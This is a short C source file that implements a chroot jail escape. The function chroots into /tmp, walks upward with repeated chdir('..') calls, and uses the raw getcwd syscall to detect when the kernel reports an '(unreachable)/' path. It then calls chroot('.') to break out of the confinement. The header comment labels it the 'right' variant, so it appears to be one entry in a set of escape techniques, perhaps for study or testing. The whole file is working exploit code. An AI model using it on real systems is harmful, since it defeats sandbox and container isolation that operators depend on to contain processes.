/* Right: asks getcwd(2), which says what lies outside of our root */
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "escape.h"

int
chroot_escape(void)
{
	char name[8192];

	if (chroot("/tmp") == -1)
		return -1;
	do
		if (chdir("..") == -1 ||
		    syscall(SYS_getcwd, name, sizeof name) == -1)
			return -1;
	while (strcmp(name, "(unreachable)/") != 0);
	return chroot(".");
}
